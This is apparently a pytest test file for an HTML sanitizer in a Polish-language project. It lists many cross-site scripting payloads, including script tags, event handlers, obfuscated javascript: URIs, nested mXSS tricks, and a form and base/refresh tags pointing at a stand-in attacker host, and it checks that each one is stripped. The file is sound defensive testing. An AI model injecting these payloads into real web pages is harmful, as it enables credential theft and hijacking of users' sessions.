"""What may never come through the cleaning of texts."""

import re
from html.parser import HTMLParser

import pytest

from akademia.core.html import ATTRIBUTES, TAGS, clean, plain

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//zly.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\t\n bar>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror=`alert(1)`>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x" style="background:url(javascript:alert(1))">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#106;&#97;vascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="jav&Tab;ascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="x" onclick="alert(1)">x</a>',
    '<p onmouseover="alert(1)">x</p>',
    '<p style="position:fixed;inset:0">x</p>',
    "<style>p{background:url(//zly.example)}</style>",
    "<style>@import '//zly.example/x.css';",
    '<iframe src="//zly.example"></iframe>',
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    '<svg onload="alert(1)"></svg>',
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<form action='//zly.example'><input name=haslo><button>Wyślij</button></form>",
    "<base href='//zly.example/'>",
    "<meta http-equiv=refresh content='0;url=//zly.example'>",
    "<link rel=stylesheet href=//zly.example/x.css>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=x onerror=alert(1)></video>",
    "<video src=//zly.example/x.mp4 autoplay onplay=alert(1) poster=javascript:alert(1)></video>",
    "<audio src='data:audio/mpeg;base64,AAAA' autoplay></audio>",
    "<video><source src=javascript:alert(1) onerror=alert(1)></video>",
    "<video src=/media/abc/plik><track default src=//zly.example/x.vtt></video>",
    "<picture><source srcset='//zly.example/x.png 1x, /media/abc/480.webp 480w'></picture>",
    "<picture><source srcset='/media/abc/480.webp 480w, javascript:alert(1) 2x'></picture>",
    "<picture><source srcset='/media/../konto/wyloguj/ 480w'><img src=x onerror=alert(1)></picture>",
    "<picture><script>alert(1)</script><img src=x></picture>",
    "<source src='/media/abc/plik\n' onerror=alert(1)>",
    '<a id="x" href="x" formaction="javascript:alert(1)" target="_blank" ping="//zly.example">x</a>',
]


class _Tags(HTMLParser):
    def __init__(self, html):
        super().__init__()
        self.found = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_comes_out_as_plain_words_or_not_at_all(attack):
    for html in (clean(attack), clean(f"<p>przed {attack} po</p>"), clean(clean(attack))):
        for tag, attributes in _Tags(html).found:
            assert tag in TAGS
            for name, value in attributes.items():
                assert name in ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set())
                assert not re.match(r"[\s\x00-\x20]*(?:javascript|vbscript|data)\s*:", value or "", re.IGNORECASE)
                if tag in ("audio", "video", "source", "track") and name in ("src", "srcset"):
                    assert all(one.strip().startswith("/media/abc/") for one in value.split(",")), value
        assert "<script" not in html.casefold()


def test_the_text_of_a_script_does_not_stay_behind_as_words():
    assert clean("<p>Dzień<script>ukradnij()</script> dobry</p>") == "<p>Dzień dobry</p>"
    assert clean("a<style>p{}</style>b<template>c</template>d") == "abd"


def test_cleaning_twice_is_cleaning_once():
    for attack in ATTACKS:
        assert clean(clean(attack)) == clean(attack)


def test_what_texts_may_hold_comes_through_unchanged():
    good = (
        '<h2 id="cel">Cel</h2><p class="lead" lang="pl"><a href="/slownik/#cis" aria-describedby="opis-1">CIS</a>'
        ' <a href="mailto:a@example.org">a</a> <a href="tel:+48123456789">t</a></p>'
        '<table><caption>Kwoty</caption><tbody><tr><th scope="row">x</th><td data-label="Ile" colspan="2">5</td></tr>'
        '</tbody></table><time datetime="2026-11-23">dziś</time><details open><summary>s</summary><p>t</p></details>'
        '<img alt="opis" src="/static/x.png">'
        '<figure class="figure"><picture><source sizes="9em" srcset="/media/abc/480.avif 480w, /media/abc/9.avif 9w"'
        ' type="image/avif"><img alt="" height="2" loading="lazy" src="/media/abc/9.jpg" width="3"></picture></figure>'
        '<video aria-label="Film" controls playsinline="" preload="metadata" src="/media/abc/plik">'
        '<track default="" kind="captions" label="Polski" src="/media/abc/napisy.vtt" srclang="pl"></video>'
    )

    assert clean(good) == good


def test_the_words_of_html_are_its_text_with_single_blanks():
    assert plain("<p>Zażółć\n <b>gęślą</b></p>  <p>jaźń &amp; co</p>") == "Zażółć gęślą jaźń & co"
